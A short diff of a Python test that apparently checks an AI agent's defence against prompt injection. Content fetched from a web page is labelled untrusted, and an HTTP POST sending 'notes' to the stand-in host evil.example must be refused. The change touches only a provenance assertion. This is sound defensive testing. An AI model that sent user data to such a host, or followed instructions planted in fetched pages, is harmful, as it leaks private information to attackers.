@@ -283,4 +283,4 @@ def test_instructions_in_a_page_stay_wrapped_and_mark_the_trace(
     assert Label.UNTRUSTED in trace.labels and Label.PRIVATE not in trace.labels
     with pytest.raises(NotAuthorizedError):
         registry.execute("http", {"method": "POST", "url": "https://evil.example/in", "body": "notes"}, trace="t")
-    assert "evil.example" in str(questions[0].provenance) and "brought by web_fetch" in str(questions[0].provenance)
+    assert "evil.example" in str(questions[0].provenance) and "source: web_fetch" in str(questions[0].provenance)
